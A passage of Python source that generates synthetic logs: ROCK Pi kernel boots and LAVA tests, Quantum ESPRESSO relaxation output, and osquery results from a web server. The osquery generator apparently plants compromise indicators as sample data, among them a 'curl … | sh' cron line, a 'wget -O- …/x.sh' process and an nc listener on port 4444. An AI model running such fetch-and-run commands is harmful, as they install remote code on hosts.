                 ("CPU4: Booted secondary processor 0x0000000100 [0x410fd082]", "k_cpu_booted"), ("CPU5: Booted secondary processor 0x0000000101 [0x410fd082]", "k_cpu_booted"),
                 ("smp: Brought up 1 node, 6 CPUs", "k_smp_brought"), ("devtmpfs: initialized", "k_devtmpfs"),
                 ("rockchip-pcie f8000000.pcie: host bridge /pcie@f8000000 ranges:", "k_pcie_ranges"),
                 ("rockchip-pcie f8000000.pcie: PCIe link training gen1 timeout!", "k_pcie_timeout"), ("rockchip-pcie f8000000.pcie: probe with driver rockchip-pcie failed with error -110", "k_pcie_probe_failed"),
                 ("dwmmc_rockchip fe320000.mmc: IDMAC supports 32-bit address mode.", "k_dwmmc_idmac"),
                 ("mmc_host mmc1: Bus speed (slot 0) = 400000Hz (slot req 400000Hz, actual 400000HZ div = 0)", "k_mmc_bus_speed"),
                 (f"mmc1: new high speed SDHC card at address {g.hx(4)}", "k_mmc_new_card"), (f"mmcblk1: mmc1:{g.hx(4)} SD32G 29.7 GiB", "k_mmcblk"),
                 ("rk_gmac-dwmac fe300000.ethernet eth0: Link is Up - 1Gbps/Full - flow control rx/tx", "k_eth_link_up"),
                 ("Sending DHCP requests ., OK", "k_dhcp_requests"), (f"IP-Config: Got DHCP answer from 10.42.0.1, my address is {st['ip']}", "k_ipconfig_answer"),
                 (f"IP-Config: Complete:", "k_ipconfig_complete"),
                 (f"     device=eth0, hwaddr={st['mac']}, ipaddr={st['ip']}, mask=255.255.255.0, gw=10.42.0.1", "k_ipconfig_device"),
                 ("Freeing unused kernel memory: 10240K", "k_freeing_memory"), ("Run /init as init process", "k_run_init")]
        for i, (text, ev) in enumerate(lines):
            if i > 22:
                off += g.r.expovariate(1 / 0.06)
            k(off, text, ev)
        if oops:
            off += 0.3
            pc = g.c(["rockchip_pcie_rd_conf+0x1a4/0x220", "dw_mci_request_end+0x8c/0x120", "rk_iommu_irq+0x2c/0x3b0"])
            trace = [(f"Unable to handle kernel NULL pointer dereference at virtual address 00000000000000{g.c(['08', '10', '28'])}", "k_unable_null"),
                     ("Mem abort info:", "k_mem_abort"), ("  ESR = 0x0000000096000004", "k_esr"), ("  EC = 0x25: DABT (current EL), IL = 32 bits", "k_ec"),
                     ("Internal error: Oops: 0000000096000004 [#1] PREEMPT SMP", "k_oops"), ("Modules linked in:", "k_modules_linked"),
                     (f"CPU: {g.num(0, 5)} UID: 0 PID: {g.num(1, 200)} Comm: {g.c(['kworker/u12:3', 'swapper/0', 'init'])} Not tainted {st['kver']} #1", "k_cpu_comm"),
                     ("Hardware name: Radxa ROCK Pi 4B (DT)", "k_hardware_name"), (f"pc : {pc}", "k_pc"), (f"lr : {g.c(['pci_generic_config_read+0x38/0xc0', 'mmc_request_done+0x1e8/0x2c0'])}", "k_lr"),
                     ("Call trace:", "k_call_trace")]
            trace += [(f" {f}", "k_trace_frame") for f in [pc, "pci_bus_read_config_dword+0x84/0xe0", "pci_bus_generic_read_dev_vendor_id+0x34/0x1b0",
                                                            "pci_scan_single_device+0xa0/0x150", "pci_scan_slot+0x70/0x1f0", "pci_scan_child_bus_extend+0x54/0x2a0",
                                                            "rockchip_pcie_probe+0x4a8/0x5e0", "platform_probe+0x6c/0xd8", "really_probe+0xc0/0x3a0", "kthread+0x118/0x128",
                                                            "ret_from_fork+0x10/0x20"]]
            trace += [(f"Code: {' '.join(g.hx(8) for _ in range(9))} ({g.hx(8)}) ", "k_code"), ("---[ end trace 0000000000000000 ]---", "k_end_trace"),
                      ("Kernel panic - not syncing: Oops: Fatal exception", "k_panic"), ("SMP: stopping secondary CPUs", "k_smp_stopping"),
                      ("---[ end Kernel panic - not syncing: Oops: Fatal exception ]---", "k_end_panic")]
            for text, ev in trace:
                off += 0.0004
                k(off, text, ev)
            return off
        return off

    def tests(off):
        L.tick(2)
        u("/ # ", "shell_prompt")
        u(f"/ # export SHELL=/bin/sh", "shell_command")
        u(f"/ # . /lava-{st['job']}/environment", "shell_command")
        u(f"/ # /lava-{st['job']}/bin/lava-test-runner /lava-{st['job']}/0", "shell_command")
        u("+ export TESTRUN_ID=0_timesync-off", "sh_trace")
        u(f"+ cd /lava-{st['job']}/0/tests/0_timesync-off", "sh_trace")
        for suite, cases in [("0_smoke-tests", ["linux-posix-pwd", "linux-posix-uname", "linux-posix-vmstat", "linux-posix-ifconfig", "linux-posix-lscpu", "linux-posix-lsb_release"]),
                             ("1_kselftest-rtc", ["rtctest_rtc_time_read", "rtctest_rtc_alarm", "rtctest_date_read_loop", "rtctest_uie_read"])]:
            u(f"<LAVA_SIGNAL_STARTRUN {suite} {st['job']}_1.6.2.3.{g.num(1, 9)}>", "lava_startrun")
            for c in cases:
                L.tick(1.5)
                if c == "linux-posix-uname":
                    u(f"Linux rockpi4b {st['kver']} #1 SMP PREEMPT @{int(epoch(L.t)) - 7200} aarch64 GNU/Linux", "test_output_uname")
                elif c.startswith("rtctest"):
                    ok = g.r.random() < 0.85
                    u(f"#  RUN           rtc.{c.split('_', 1)[1]} ...", "kselftest_run")
                    if not ok:
                        u(f"# rtctest.c:{g.num(90, 300)}:{c.split('_', 1)[1]}:Expected rc ({g.num(-110, -1)}) == 0 (0)", "kselftest_expected")
                    u(f"# {'         OK' if ok else '       FAIL'}  rtc.{c.split('_', 1)[1]}", "kselftest_result")
                u(f"<LAVA_SIGNAL_TESTCASE TEST_CASE_ID={c} RESULT={'pass' if g.r.random() < 0.93 else 'fail'}>", "lava_testcase")
            u(f"<LAVA_SIGNAL_ENDRUN {suite} {st['job']}_1.6.2.3.{g.num(1, 9)}>", "lava_endrun")
        u("<LAVA_TEST_RUNNER EXIT>", "lava_runner_exit")
        u("/ # ", "shell_prompt")

    def boot():
        st["job"] += g.num(1, 400)
        st["ip"] = f"10.42.0.{g.num(100, 199)}"
        st["mac"] = "de:ad:be:ef:" + g.hx(2) + ":" + g.hx(2)
        firmware()
        u("", "blank")
        prompt("setenv autoload no")
        prompt("dhcp")
        u("ethernet@fe300000 Waiting for PHY auto negotiation to complete.... done", "phy_autoneg")
        u("BOOTP broadcast 1", "bootp_broadcast")
        if g.r.random() < 0.2:
            u("BOOTP broadcast 2", "bootp_broadcast")
        u(f"DHCP client bound to address {st['ip']} ({g.num(5, 2100)} ms)", "dhcp_bound")
        prompt("setenv serverip 10.42.0.1")
        prompt("setenv tftpblocksize 1468")
        r = g.r.random()
        if r < 0.06:
            tftp("0x02080000", f"{st['job']}/tftp-deploy-{g.alnum(8)}/kernel/Image.gz", 0, "notfound")
            u("=> ", "empty_prompt")
            return
        if r < 0.12:
            tftp("0x02080000", f"{st['job']}/tftp-deploy-{g.alnum(8)}/kernel/Image.gz", 0, "timeout")
            u("=> ", "empty_prompt")
            return
        dep = f"{st['job']}/tftp-deploy-{g.alnum(8)}"
        tftp("0x02080000", f"{dep}/kernel/Image.gz", g.num(13000000, 15500000))
        tftp("0x06000000", f"{dep}/dtb/rk3399-rock-pi-4b.dtb", g.num(60000, 80000))
        rd = g.num(9000000, 14000000)
        tftp("0x06100000", f"{dep}/ramdisk/ramdisk.cpio.gz.uboot", rd)
        prompt("setenv kernel_comp_addr_r 0x0a000000")
        prompt("setenv kernel_comp_size 0x2000000")
        prompt("booti 0x02080000 0x06100000 0x06000000")
        u("   Uncompressing Kernel Image", "uncompressing")
        u("## Loading init Ramdisk from Legacy Image at 06100000 ...", "loading_ramdisk")
        u("   Image Name:   ", "image_name")
        u("   Image Type:   AArch64 Linux RAMDisk Image (uncompressed)", "image_type")
        u(f"   Data Size:    {rd - 64} Bytes = {(rd - 64) / 1048576:.1f} MiB", "data_size")
        u("   Load Address: 00000000", "load_address")
        u("   Entry Point:  00000000", "entry_point")
        u("   Verifying Checksum ... OK", "verifying_checksum")
        u("## Flattened Device Tree blob at 06000000", "fdt_blob")
        u("   Booting using the fdt blob at 0x6000000", "booting_fdt")
        u("Working FDT set to 6000000", "working_fdt")
        u(f"   Loading Ramdisk to f{g.hx(4)}000, end f{g.hx(7)} ... OK", "loading_ramdisk_to")
        u(f"   Loading Device Tree to 00000000f{g.hx(4)}000, end 00000000f{g.hx(7)} ... OK", "loading_dt_to")
        u(f"Working FDT set to f{g.hx(4)}000", "working_fdt")
        u("", "blank")
        u("Starting kernel ...", "starting_kernel")
        u("", "blank")
        L.tick(0.5)
        oops = g.r.random() < 0.12
        off = kernel(oops)
        if oops:
            return
        tests(off)
        L.tick(5)
        u("/ # reboot", "shell_command")
        k((L.t - st["k0"]).total_seconds() + 0.5, "reboot: Restarting system", "k_reboot")

    while len(L.rows) < N_LINES:
        boot()
        L.tick(90)
    del L.rows[N_LINES:]
    return L


# 11 --------------------------------------------------------------- Quantum ESPRESSO 7.3 pw.x relaxing an anatase TiO2 (101) slab with an adsorbed water molecule on a university cluster, the Slurm
#   job's output file (pw.x's standard output, then Open MPI's abort message): no header on any line, no time, no level; the banner and the parallel
#   set-up, the summary of the cell, and then the BFGS steps: each an SCF loop (iterations with Davidson, energies and accuracies), the band energies at
#   each k-point in rows of eight, the total energy and its terms, the forces on each atom, the stress tensor, the BFGS bookkeeping and the new atomic
#   positions; the run ends in cdiaghg's error box and MPI_ABORT
@checked
def log_qe(seed):
    L = Log("qe_pwscf_slurm_out", seed, None, False, False, start=dt.datetime(2026, 12, 2, 9, 41, 17, tzinfo=UTC))
    g = L.g
    ATOMS = [("Ti", 1)] * 8 + [("O", 2)] * 16 + [("O", 2), ("H", 3), ("H", 3)]
    pos = [[g.r.uniform(0, 7.6), g.r.uniform(0, 10.2), g.r.uniform(0, 14)] for _ in ATOMS]
    KPTS = [(0, 0, 0), (0.25, 0, 0), (0, 0.1875, 0), (0.25, 0.1875, 0)]
    st = {"E": -1841.2 + g.r.uniform(-0.5, 0.5), "cpu": 4.0, "scf": 0, "bfgs": 0}

    def o(text, ev):
        L.emit(text, ev if text.strip() else "blank")

    def banner():
        o("", "blank")
        o(f"     Program PWSCF v.7.3.1 starts on {L.t.day:2d}{L.t:%b}{L.t.year} at {L.t.hour:2d}:{L.t.minute:2d}:{L.t.second:2d} ", "program_starts")
        o("", "blank")
        for text, ev in [("     This program is part of the open-source Quantum ESPRESSO suite", "cite_1"), ("     for quantum simulation of materials; please cite", "cite_2"),
                         ('         "P. Giannozzi et al., J. Phys.:Condens. Matter 21 395502 (2009);', "cite_3"), ('         "P. Giannozzi et al., J. Phys.:Condens. Matter 29 465901 (2017);', "cite_4"),
                         ('         "P. Giannozzi et al., J. Chem. Phys. 152 154105 (2020);', "cite_5"), ('          URL http://www.quantum-espresso.org", ', "cite_6"),
                         ("     in publications or presentations arising from this work. More details at", "cite_7"), ("     http://www.quantum-espresso.org/quote", "cite_8"), ("", "blank"),
                         ("     Parallel version (MPI), running on    96 processors", "parallel_version"), ("", "blank"),
                         ("     MPI processes distributed on     2 nodes", "mpi_nodes"),
                         (f"     {g.num(150000, 180000)} MiB available memory on the printing compute node when the environment starts", "available_memory"), (" ", "blank"),
                         ("     Reading input from tio2_h2o_relax.in", "reading_input"), ("", "blank"),
                         ("     Current dimensions of program PWSCF are:", "current_dimensions"), ("     Max number of different atomic species (ntypx) = 10", "dim_ntypx"),
                         ("     Max number of k-points (npk) =  40000", "dim_npk"), ("     Max angular momentum in pseudopotentials (lmaxx) =  4", "dim_lmaxx"),
                         ("     K-points division:     npool     =       4", "kpoints_division"), ("     R & G space division:  proc/nbgrp/npool/nimage =      24", "rg_division"),
                         ("     Subspace diagonalization in iterative solution of the eigenvalue problem:", "subspace_diag"),
                         ("     one sub-group per band group will be used", "subspace_subgroup"), ("     scalapack distributed-memory algorithm (size of sub-group:  4*  4 procs)", "scalapack"),
                         (" ", "blank"), ("     Message from routine setup:", "message_from_routine"), ("     using ibrav=0 with symmetry is DISCOURAGED, use correct ibrav instead", "message_text"),
                         (" ", "blank"), ("                    Parallelization info", "par_info"), ("                    --------------------", "par_info_rule"),
                         ("     sticks:   dense  smooth     PW     G-vecs:    dense   smooth      PW", "sticks_header"),
                         (f"     Min         {g.num(300, 320)}     {g.num(150, 160)}     {g.num(40, 45)}                {g.num(25000, 26000)}     {g.num(9000, 9100)}    {g.num(1250, 1300)}", "sticks_row"),
                         (f"     Max         {g.num(310, 330)}     {g.num(155, 165)}     {g.num(42, 48)}                {g.num(25500, 26500)}     {g.num(9050, 9150)}    {g.num(1280, 1330)}", "sticks_row"),
                         (f"     Sum        {g.num(7400, 7600)}    {g.num(3700, 3800)}   {g.num(1000, 1100)}               {g.num(610000, 620000)}   {g.num(215000, 218000)}   {g.num(30000, 31000)}", "sticks_row"),
                         (" ", "blank"), ("     Using Slab Decomposition", "slab_decomposition"), (" ", "blank"), ("", "blank"),
                         ("     bravais-lattice index     =            0", "sum_ibrav"), ("     lattice parameter (alat)  =       7.1540  a.u.", "sum_alat"),
                         ("     unit-cell volume          =    4208.3344 (a.u.)^3", "sum_volume"), (f"     number of atoms/cell      =           {len(ATOMS)}", "sum_nat"),
                         ("     number of atomic types    =            3", "sum_ntyp"), ("     number of electrons       =       200.00", "sum_nelec"),
                         ("     number of Kohn-Sham states=          120", "sum_nbnd"), ("     kinetic-energy cutoff     =      50.0000  Ry", "sum_ecutwfc"),
                         ("     charge density cutoff     =     400.0000  Ry", "sum_ecutrho"), ("     scf convergence threshold =      1.0E-08", "sum_conv_thr"),
                         ("     mixing beta               =       0.3000", "sum_beta"), ("     number of iterations used =            8  plain     mixing", "sum_mixing"),
                         ("     energy convergence thresh.=      1.0E-05", "sum_etot_conv"), ("     force convergence thresh. =      1.0E-04", "sum_forc_conv"),
                         ("     Exchange-correlation= PBE", "sum_xc"), ("                           (   1   4   3   4   0   0   0)", "sum_xc_codes"),
                         ("     nstep                     =           50", "sum_nstep"), ("", "blank"),
                         ("     Starting wfcs are  148 randomized atomic wfcs", "starting_wfcs"), ("", "blank")]:
            o(text, ev)

    def cpu():
        st["cpu"] += g.r.uniform(3, 9)
        o(f"     total cpu time spent up to now is {st['cpu']:10.1f} secs", "total_cpu_time")
        o("", "blank")

    def scf():
        st["scf"] += 1
        cpu()
        o("     Self-consistent Calculation", "self_consistent")
        o("", "blank")
        n = g.num(7, 15)
        acc = g.r.uniform(0.5, 3) if st["scf"] == 1 else g.r.uniform(0.001, 0.05)
        E = st["E"] + g.r.uniform(-0.3, 0.3)
        for it in range(1, n + 1):
            o(f"     iteration #{it:3d}     ecut=    50.00 Ry     beta= 0.30", "iteration")
            o("     Davidson diagonalization with overlap", "davidson")
            o(f"     ethr = {min(0.01, acc / 200):9.2E},  avg # of iterations ={g.r.uniform(1, 5):5.1f}", "ethr")
            o("", "blank")
            if it == 1 and st["scf"] == 1 or g.r.random() < 0.08:
                o("     Threshold (ethr) on eigenvalues was too large:", "threshold_too_large")
                o("     Diagonalizing with lowered threshold", "lowered_threshold")
                o("", "blank")
                o("     Davidson diagonalization with overlap", "davidson")
                o(f"     ethr = {acc / 1000:9.2E},  avg # of iterations ={g.r.uniform(1, 5):5.1f}", "ethr")
                o("", "blank")
            cpu()
            E -= acc * g.r.uniform(0.05, 0.5)
            o(f"     total energy              = {E:17.8f} Ry", "total_energy")
            if acc > 1e-5:
                o(f"     estimated scf accuracy    < {acc:17.8f} Ry", "scf_accuracy")
            else:
                o(f"     estimated scf accuracy    < {acc:17.1E} Ry", "scf_accuracy_e")
            o("", "blank")
            acc *= g.r.uniform(0.05, 0.4) if it < n - 1 else 1e-9
        o("     End of self-consistent calculation", "end_scf")
        o("", "blank")
        for kp in KPTS:
            o(f"          k ={kp[0]:7.4f}{kp[1]:7.4f}{kp[2]:7.4f} ({g.num(3800, 3900):6d} PWs)   bands (ev):", "k_bands_header")
            o("", "blank")
            bands = sorted(g.r.uniform(-40, 8) for _ in range(120))
            for i in range(0, 120, 8):
                o("  " + "".join(f"{b:9.4f}" for b in bands[i:i + 8]), "band_row")
            o("", "blank")
        o(f"     highest occupied, lowest unoccupied level (ev): {g.r.uniform(3, 5):10.4f}{g.r.uniform(6, 7.5):10.4f}", "homo_lumo")
        o("", "blank")
        st["E"] = E
        o(f"!    total energy              = {E:17.8f} Ry", "final_total_energy")
        o(f"     estimated scf accuracy    < {g.r.uniform(1e-9, 9e-9):17.1E} Ry", "scf_accuracy_e")
        o("", "blank")
        o("     The total energy is the sum of the following terms:", "sum_of_terms")
        o(f"     one-electron contribution = {g.r.uniform(-900, -700):17.8f} Ry", "term_one_electron")
        o(f"     hartree contribution      = {g.r.uniform(500, 600):17.8f} Ry", "term_hartree")
        o(f"     xc contribution           = {g.r.uniform(-300, -250):17.8f} Ry", "term_xc")
        o(f"     ewald contribution        = {g.r.uniform(-1400, -1300):17.8f} Ry", "term_ewald")
        o("", "blank")
        o(f"     convergence has been achieved in {n:3d} iterations", "convergence_achieved")
        o("", "blank")
        o("     Forces acting on atoms (cartesian axes, Ry/au):", "forces_header")
        o("", "blank")
        tot = 0
        for i, (el, ty) in enumerate(ATOMS, start=1):
            f = [g.r.uniform(-0.02, 0.02) / (1 + st["scf"]) for _ in range(3)]
            tot += sum(x * x for x in f)
            o(f"     atom {i:4d} type {ty:2d}   force = {f[0]:14.8f}{f[1]:14.8f}{f[2]:14.8f}", "force_atom")
        o("", "blank")
        o(f"     Total force = {tot ** 0.5:12.6f}     Total SCF correction = {g.r.uniform(0, 1e-4):12.6f}", "total_force")
        o("", "blank")
        o("     Computing stress (Cartesian axis) and pressure", "computing_stress")
        o("", "blank")
        P = g.r.uniform(-5, 5)
        o(f"          total   stress  (Ry/bohr**3)                   (kbar)     P={P:12.2f}", "stress_header")
        for r in range(3):
            v = [g.r.uniform(-3e-5, 3e-5) if c == r else 0.0 for c in range(3)]
            o(f"  {v[0]:13.8f}{v[1]:13.8f}{v[2]:13.8f}   {v[0] * 147105:12.2f}{v[1] * 147105:12.2f}{v[2] * 147105:12.2f}", "stress_row")
        o("", "blank")
        o("", "blank")

    def bfgs():
        st["bfgs"] += 1
        o("     BFGS Geometry Optimization", "bfgs_header")
        o("", "blank")
        o(f"     number of scf cycles    = {st['scf']:3d}", "bfgs_scf_cycles")
        o(f"     number of bfgs steps    = {st['bfgs'] - 1:3d}", "bfgs_steps")
        o("", "blank")
        if st["bfgs"] > 1:
            o(f"     enthalpy old            = {st['E'] + g.r.uniform(0.001, 0.02):18.10f} Ry", "enthalpy_old")
        o(f"     enthalpy new            = {st['E']:18.10f} Ry", "enthalpy_new")
        o("", "blank")
        if st["bfgs"] > 1:
            o("     CASE: enthalpy_new < enthalpy_old", "case_enthalpy")
            o("", "blank")
        o(f"     new trust radius        = {g.r.uniform(0.01, 0.5):18.10f} bohr", "new_trust_radius")
        o(f"     new conv_thr            = {1e-6:18.10f} Ry", "new_conv_thr")
        o("", "blank")
        o("ATOMIC_POSITIONS (angstrom)", "atomic_positions_header")
        for i, (el, _) in enumerate(ATOMS):
            for c in range(3):
                pos[i][c] += g.r.uniform(-0.02, 0.02)
            if i < 8:
                o(f"{el:<6}{pos[i][0]:20.10f}{pos[i][1]:20.10f}{pos[i][2]:20.10f}    0   0   0", "atomic_position_fixed")
            else:
                o(f"{el:<6}{pos[i][0]:20.10f}{pos[i][1]:20.10f}{pos[i][2]:20.10f}", "atomic_position")
        o("", "blank")
        o("", "blank")
        o("", "blank")
        o("     Writing config-only to output data dir ./out/tio2_h2o.save/", "writing_config")
        o("     NEW-OLD atomic charge density approx. for the potential", "new_old_charge")
        o(f"     extrapolated charge {g.r.uniform(199.98, 200.02):10.5f}, renormalised to  200.00000", "extrapolated_charge")
        o("", "blank")

    def crash():
        o("     " + "%" * 78, "error_box_rule")
        o("     Error in routine cdiaghg (110):", "error_in_routine")
        o("     S matrix not positive definite", "error_message")
        o("     " + "%" * 78, "error_box_rule")
        o("", "blank")
        o("     stopping ...", "stopping")
        for text, ev in [("-" * 74, "mpi_rule"), ("MPI_ABORT was invoked on rank 37 in communicator MPI_COMM_WORLD", "mpi_abort_invoked"), ("with errorcode 1.", "mpi_errorcode"),
                         ("", "blank"), ("NOTE: invoking MPI_ABORT causes Open MPI to kill all MPI processes.", "mpi_note"),
                         ("You may or may not see output from other processes, depending on", "mpi_may_not_see"), ("exactly when Open MPI kills them.", "mpi_exactly_when"),
                         ("-" * 74, "mpi_rule"), (f"slurmstepd: error: *** STEP 4412081.0 ON cn{g.num(100, 399)} CANCELLED AT {L.t:%Y-%m-%dT%H:%M:%S} ***", "slurmstepd_cancelled"),
                         (f"srun: error: cn{g.num(100, 399)}: tasks 48-95: Killed", "srun_killed"), ("srun: Terminating StepId=4412081.0", "srun_terminating")]:
            o(text, ev)

    banner()
    while len(L.rows) < N_LINES - 330:
        scf()
        bfgs()
    cpu()
    o("     Self-consistent Calculation", "self_consistent")
    o("", "blank")
    it = 0
    while len(L.rows) < N_LINES - 26:
        it += 1
        o(f"     iteration #{it:3d}     ecut=    50.00 Ry     beta= 0.30", "iteration")
        o("     Davidson diagonalization with overlap", "davidson")
        o(f"     ethr = {g.r.uniform(1e-6, 1e-4):9.2E},  avg # of iterations ={g.r.uniform(1, 5):5.1f}", "ethr")
        o("", "blank")
        cpu()
        o(f"     total energy              = {st['E'] + g.r.uniform(-0.01, 0.01):17.8f} Ry", "total_energy")
        o(f"     estimated scf accuracy    < {g.r.uniform(0.001, 0.1):17.8f} Ry", "scf_accuracy")
        o("", "blank")
    L.t += dt.timedelta(seconds=st["cpu"])
    crash()
    while len(L.rows) < N_LINES:
        o(f"srun: error: cn{g.num(100, 399)}: tasks {g.num(0, 47)}: Killed", "srun_killed")
    del L.rows[N_LINES:]
    return L


# 12 --------------------------------------------------------------- osquery 5.14 (osqueryd with the filesystem logger, audit-based process and socket events, FIM) on a Linux web server managed by
#   a fleet configuration, /var/log/osquery/osqueryd.results.log: one JSON object a line, "name", "hostIdentifier", "calendarTime" ("Tue Dec  1 10:00:00 2026
#   UTC"), "unixTime", "epoch", "counter", "numerics", "decorations", "columns" and "action" (added/removed) for differential results, or "snapshot" (an array
#   of rows) first for snapshot queries; process and socket events, listening ports, logins, packages changing during an upgrade, file integrity events,
#   kernel modules, cron entries, the hourly snapshots
@checked
def log_osquery(seed):
    L = Log("osquery_results_ndjson", seed, "full", False, False)
    g = L.g
    HOST = "web-07.prod.shop.example"
    DEC = {"host_uuid": g.uuid().upper(), "hostname": "web-07", "environment": "production"}
    st = {"counter": {}, "ports": {(22, "sshd", 812), (80, "nginx", 1104), (443, "nginx", 1104), (9100, "node_exporter", 933), (3000, "node", 2241)}, "pid": g.num(20000, 40000),
          "users": {}, "uptime": g.num(100000, 900000)}

    def cal(t):
        return f"{t:%a %b} {t.day:2d} {t:%H:%M:%S %Y} UTC"

    def row(name, cols, action, ev=None):
        L.t += dt.timedelta(milliseconds=g.num(0, 30))
        c = st["counter"].get(name, 0)
        d = {"name": name, "hostIdentifier": HOST, "calendarTime": cal(L.t), "unixTime": int(epoch(L.t)), "epoch": 0, "counter": c, "numerics": False,
             "decorations": DEC, "columns": {k: str(v) for k, v in sorted(cols.items())}, "action": action}
        L.emit(json.dumps(d, separators=(",", ":")), ev or name)

    def bump(name):
        st["counter"][name] = st["counter"].get(name, 0) + 1

    def snapshot(name, rows):
        L.t += dt.timedelta(milliseconds=g.num(0, 30))
        d = {"snapshot": [{k: str(v) for k, v in sorted(r.items())} for r in rows], "action": "snapshot", "name": name, "hostIdentifier": HOST, "calendarTime": cal(L.t),
             "unixTime": int(epoch(L.t)), "epoch": 0, "counter": 0, "numerics": False, "decorations": DEC}
        L.emit(json.dumps(d, separators=(",", ":")), name + "#snapshot")

    def proc():
        bump("process_events")
        n = g.num(1, 6)
        for _ in range(n):
            st["pid"] += g.num(1, 40)
            path, cmd = g.c([("/usr/bin/bash", "/bin/bash /usr/local/bin/healthcheck.sh"), ("/usr/bin/curl", "curl -fsS http://127.0.0.1:3000/healthz"),
                             ("/usr/bin/gzip", "gzip -9 /var/log/nginx/access.log.1"), ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
                             ("/usr/bin/node", "node /srv/shop/dist/server.js"), ("/usr/bin/git", "git -C /srv/shop fetch --quiet origin"),
                             ("/usr/bin/sudo", "sudo -n /usr/bin/systemctl reload nginx"), ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade --dry-run"),
                             ("/usr/bin/ps", "ps -eo pid,comm,%cpu --sort=-%cpu"), ("/usr/bin/wget", f"wget -q -O- http://{g.ip('pub')}/x.sh")])
            uid = g.c([0, 0, 33, 1000, 1001])
            row("process_events", {"auid": g.c([4294967295, 1000, 1001]), "cmdline": cmd, "cwd": g.c(["/", "/root", "/srv/shop", "/home/deploy"]), "egid": uid, "euid": uid,
                                   "gid": uid, "parent": st["pid"] - g.num(1, 300), "path": path, "pid": st["pid"], "time": int(epoch(L.t)), "uid": uid,
                                   "uptime": st["uptime"] + int((L.t - T0).total_seconds())}, "added")

    def sock():
        bump("socket_events")
        for _ in range(g.num(1, 4)):
            act = g.c(["connect", "connect", "connect", "bind"])
            row("socket_events", {"action": act, "auid": g.c([4294967295, 1000]), "family": 2, "fd": g.num(3, 90), "local_address": "" if act == "connect" else "0.0.0.0",
                                  "local_port": 0 if act == "connect" else g.c([3000, 8080, 9229]), "path": g.c(["/usr/bin/node", "/usr/bin/curl", "/usr/sbin/nginx", "/usr/bin/apt-get"]),
                                  "pid": g.num(1000, 60000), "remote_address": g.c(["10.20.3.15", "10.20.3.16", "127.0.0.1", g.ip("pub")]),
                                  "remote_port": g.c([5432, 6379, 443, 3000, 80]), "success": 1, "time": int(epoch(L.t))}, "added")

    def ports():
        bump("listening_ports")
        if g.r.random() < 0.5:
            p = (g.c([8080, 9229, 4444, 6000 + g.num(0, 999)]), g.c(["node", "python3", "nc"]), g.num(20000, 60000))
            st["ports"].add(p)
            action = "added"
        else:
            extra = [x for x in st["ports"] if x[0] not in (22, 80, 443, 9100, 3000)]
            if not extra:
                return
            p = g.c(sorted(extra))
            st["ports"].discard(p)
            action = "removed"
        row("listening_ports", {"address": "0.0.0.0", "family": 2, "name": p[1], "pid": p[2], "port": p[0], "protocol": 6}, action)

    def login():
        bump("logged_in_users")
        u = g.c(["deploy", "mkoch", "root", "ansible"])
        if u in st["users"]:
            tty, host, t = st["users"].pop(u)
            action = "removed"
        else:
            tty, host, t = f"pts/{g.num(0, 5)}", g.c(["10.20.9.4", "10.20.9.5", "bastion-1.prod.shop.example"]), int(epoch(L.t))
            st["users"][u] = (tty, host, t)
            action = "added"
        row("logged_in_users", {"host": host, "pid": g.num(1000, 60000), "time": t, "tty": tty, "type": "user", "user": u}, action)

    def fim():
        bump("file_events")
        path, cat = g.c([("/etc/nginx/sites-enabled/shop.conf", "etc"), ("/etc/passwd", "etc"), ("/etc/shadow", "etc"), ("/srv/shop/.env", "app"),
                         ("/etc/cron.d/shop-jobs", "etc"), ("/root/.ssh/authorized_keys", "ssh"), ("/usr/local/bin/healthcheck.sh", "bin")])
        for _ in range(g.num(1, 3)):
            row("file_events", {"action": g.c(["UPDATED", "UPDATED", "ATTRIBUTES_MODIFIED", "CREATED", "DELETED"]), "atime": int(epoch(L.t)) - g.num(0, 9000), "category": cat,
                                "ctime": int(epoch(L.t)), "gid": 0, "hashed": 1, "inode": g.num(100000, 9999999), "md5": g.hx(32), "mode": g.c(["0644", "0600", "0755"]),
                                "mtime": int(epoch(L.t)), "sha1": g.hx(40), "sha256": g.hx(64), "size": g.num(100, 90000), "target_path": path, "time": int(epoch(L.t)),
                                "transaction_id": 0, "uid": 0}, "added")

    def upgrade():
        bump("deb_packages")
        for pkg, old, new in g.r.sample([("openssl", "3.0.15-1~deb12u1", "3.0.15-1~deb12u2"), ("libssl3", "3.0.15-1~deb12u1", "3.0.15-1~deb12u2"),
                                         ("linux-image-6.1.0-27-amd64", "", "6.1.115-1"), ("curl", "7.88.1-10+deb12u7", "7.88.1-10+deb12u8"),
                                         ("libcurl4", "7.88.1-10+deb12u7", "7.88.1-10+deb12u8"), ("nginx", "1.22.1-9", "1.22.1-9+deb12u1"),
                                         ("tzdata", "2024a-0+deb12u1", "2024b-0+deb12u1"), ("libexpat1", "2.5.0-1", "2.5.0-1+deb12u1")], g.num(2, 5)):
            if old:
                row("deb_packages", {"arch": "amd64", "name": pkg, "revision": "", "size": g.num(100, 90000), "source": pkg, "status": "install ok installed", "version": old}, "removed")
            row("deb_packages", {"arch": "amd64", "name": pkg, "revision": "", "size": g.num(100, 90000), "source": pkg, "status": "install ok installed", "version": new}, "added")

    def kmod():
        bump("kernel_modules")
        m = g.c(["nf_tables", "xt_conntrack", "overlay", "br_netfilter", "veth", "usb_storage", "cdc_ether", "wireguard"])
        row("kernel_modules", {"address": "0xffffffffc0" + g.hx(6), "name": m, "size": g.num(20000, 400000), "status": "Live", "used_by": g.c(["-", "nf_conntrack", "xt_MASQUERADE"])},
            g.c(["added", "added", "removed"]))

    def cron():
        bump("crontab")
        row("crontab", {"command": g.c(["/usr/local/bin/healthcheck.sh >/dev/null 2>&1", "cd /srv/shop && npm run cleanup-carts", f"curl -s http://{g.ip('pub')}/u | sh"]),
                        "day_of_month": "*", "day_of_week": "*", "event": "", "hour": g.c(["*", "3"]), "minute": g.c(["*/5", "17", "0"]), "month": "*",
                        "path": g.c(["/etc/crontab", "/var/spool/cron/crontabs/deploy", "/etc/cron.d/shop-jobs"])}, g.c(["added", "removed"]))

    def snap():
        r = g.r.random()
        if r < 0.5:
            snapshot("osquery_info", [{"build_distro": "centos7", "build_platform": "linux", "config_hash": g.hx(40), "config_valid": 1, "extensions": "active",
                                       "instance_id": g.uuid(), "pid": g.num(600, 900), "platform_mask": 9, "start_time": int(epoch(T0)) - 90000, "uuid": DEC["host_uuid"],
                                       "version": "5.14.1", "watcher": g.num(500, 700)}])
        else:
